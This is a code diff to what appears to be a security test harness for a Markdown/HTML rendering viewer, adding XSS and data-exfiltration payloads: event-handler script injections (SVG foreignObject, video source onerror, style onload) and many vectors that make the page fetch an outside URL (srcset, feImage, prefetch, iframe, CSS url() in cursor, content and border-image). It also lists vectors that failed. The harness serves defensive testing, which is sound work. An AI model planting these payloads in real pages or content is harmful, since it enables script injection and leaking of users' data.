@@ -315,6 +315,31 @@ attack("markdown-reference-image", "research", "request")(lambda js, url: show(
 attack("markdown-details-ontoggle", "research", "file")(lambda js, url: show(
     "Markdown", f'Text\n\n<details open ontoggle="{js}"><summary>more</summary>x</details>\n'))
 
+attack("svg-foreignobject-img", "research", "file")(lambda js, url: show(
+    "HTML", f'<svg width="8" height="8"><foreignObject width="8" height="8">{onerror(js)}</foreignObject></svg>'))
+attack("video-source-onerror", "research", "file")(lambda js, url: show(
+    "HTML", f'<video width="8" height="8"><source src="x" onerror="{js}"></video>'))
+attack("style-onload", "raw-input", "file")(lambda js, url: show("HTML", f'<style onload="{js}">.sk-z{{color:red}}</style>'))
+attack("picture-source-srcset", "research", "request")(lambda js, url: show(
+    "HTML", f'<picture><source srcset="{url}"><img width="8" height="8"></picture>'))
+attack("svg-feimage", "research", "request")(lambda js, url: show(
+    "HTML", f'<svg width="8" height="8"><filter id="sk-f"><feImage href="{url}"/></filter>'
+            '<rect width="8" height="8" filter="url(#sk-f)"/></svg>'))
+attack("link-prefetch", "research", "request")(lambda js, url: show("HTML", f'<link rel="prefetch" href="{url}">'))
+attack("embed-src", "research", "request")(lambda js, url: show(
+    "HTML", f'<embed src="{url}" type="image/png" width="8" height="8">'))
+attack("iframe-src", "research", "request")(lambda js, url: show("HTML", f'<iframe src="{url}" width="8" height="8">'))
+attack("svg-style-import", "research", "request")(lambda js, url: show(
+    "HTML", f"<svg width=\"8\" height=\"8\"><style>@import url({url});</style></svg>"))
+attack("css-cursor-url", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<div style="{BOX};cursor:url({url}),auto">c</div>'))
+attack("css-content-url", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<style>.sk-leak-3::before{{content:url({url})}}</style><p class="sk-leak-3">c</p>'))
+attack("css-border-image", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<div style="{BOX};border:4px solid;border-image:url({url}) 1">b</div>'))
+attack("img-srcset-spaced", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<img srcset = "{url} 1x" width="8" height="8">'))
+
 # -- 6. a framed script sending data out by navigating its frame --------------------------
 attack("frame-navigates-itself", "frame", "request", isolate_documented=True)(lambda js, url: show(
     "HTML", f"<p>moving</p><script>if (window.top !== window) location.href = '{url}'; "
@@ -360,6 +385,7 @@ NOT_IN_CORPUS = {
     "latex-fcolorbox-css": "\\fcolorbox{red}{red;cursor:url(OTHER)}{X} (the policy checks only the first colour) and "
                            "\\colorbox/\\hspace with CSS after a ';': MathJax 3.2 sets them as single style "
                            "properties, nothing fetched under trust",
+    "svg-use-external": "<svg><use href=OTHER#a>: Chromium refuses a cross-origin <use> before any request",
     "template-img-onerror": "<template> content is inert; declarative shadow roots are not parsed by innerHTML",
     "vega-editor-url-javascript": "embed_options.editorUrl='javascript:...' then 'Open in Vega Editor': no popup ran "
                                   "it under trust (Chromium 156); the policy removes the actions menu anyway",
